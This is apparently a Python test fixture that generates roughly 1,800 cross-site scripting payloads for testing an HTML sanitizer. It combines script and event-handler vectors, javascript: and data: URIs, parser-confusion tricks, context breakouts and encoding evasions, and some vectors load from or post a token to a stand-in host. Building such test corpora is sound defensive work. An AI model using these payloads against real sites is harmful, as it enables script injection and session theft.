"""Markup that would run, load or leave, if a page took it for its own: written for these tests, 1,800 in all.

vector × the way out of where it stands × how it is spelled
"""

from __future__ import annotations

import html
from urllib.parse import quote

_RUN = "alert('live')"
_AWAY = "https://canary.example/x"

_VECTORS = [
    f"<script>{_RUN}</script>",
    f"<script src={_AWAY}.js></script>",
    f"<script type=module>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_AWAY}.png>",
    f"<img srcset='{_AWAY}.png 2x'>",
    f"<image href=x onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={_RUN}>#x'></svg>",
    f"<svg><a href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe onload={_RUN}></iframe></foreignObject></svg>",
    f"<math><a xlink:href='javascript:{_RUN}'>x</a></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<body onload={_RUN}>",
    f"<body onpageshow={_RUN}>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src={_AWAY}></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<object data={_AWAY}></object>",
    f"<embed src={_AWAY}.swf>",
    f"<video autoplay src={_AWAY}.mp4 onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}></audio>",
    f"<video poster={_AWAY}.png></video>",
    f"<source src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<button popovertarget=x>b</button><div popover id=x onbeforetoggle={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<div onanimationstart={_RUN} style='animation:x'>x</div>",
    f"<div style='background:url({_AWAY}.png)'>x</div>",
    f"<div style='width:expression({_RUN})'>x</div>",
    f"<style>@import '{_AWAY}.css';</style>",
    f"<style>*{{background:url({_AWAY}.png)}}</style>",
    f"<link rel=stylesheet href={_AWAY}.css>",
    f"<link rel=prefetch href={_AWAY}>",
    f"<meta http-equiv=refresh content='0;url={_AWAY}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<base href={_AWAY}/>",
    f"<form action={_AWAY}><input name=token><button autofocus>go</button></form>",
    f"<form><button formaction='javascript:{_RUN}'>go</button></form>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='java&#9;script:{_RUN}'>x</a>",
    f"<a href=' &#14; javascript:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<a ping={_AWAY} href=/>x</a>",
    f"<table background={_AWAY}.png><tr><td>x</table>",
    f"<isindex type=image src=1 onerror={_RUN}>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f'<xmp><p title="</xmp><svg/onload={_RUN}>">',
    f"<a id=x tabindex=1 onfocus={_RUN}>x</a>",
    f"<portal src={_AWAY}>",
    f"<keygen autofocus onfocus={_RUN}>",
    f"<dialog open onclose={_RUN}><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<?xml-stylesheet href='javascript:{_RUN}'?>",
]

_WAYS_OUT = ["", "\">", "'>", "</title>", "</textarea></script>", "--></style>", "]]></mark></bdi></a></p>", "` onmouseover=alert('live') x=\"' "]  # fmt: skip


def _spelled(text: str) -> list[str]:
    """As it is, as feeds escape it, escaped twice, in other cases and bytes."""
    return [text, html.escape(text), html.escape(html.escape(text)), _swapped(text)]


def _swapped(text: str) -> str:
    """Tag names in capitals, a slash for spaces, a NUL where scanners stop."""
    return (
        text.replace("<s", "<S\x00")
        .replace("<i", "<I")
        .replace(" on", "/\x0con")
        .replace("javascript", "jAvAsCrIpT")
    )


_ALL = [spelled for vector in _VECTORS for out in _WAYS_OUT for spelled in _spelled(out + vector)]
ATTACKS = list(dict.fromkeys([*_ALL, *(quote(vector) for vector in _VECTORS)]))

LINKS = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\nscript:{_RUN}",
    f" \x01javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f"vbscript:{_RUN}",
    "blob:https://canary.example/1",
    "//canary.example/x",
    f'https://ok.example/" onmouseover="{_RUN}',
    f"https://ok.example/'><img src=x onerror={_RUN}>",
    f"https://ok.example/?q=</script><script>{_RUN}</script>",
]
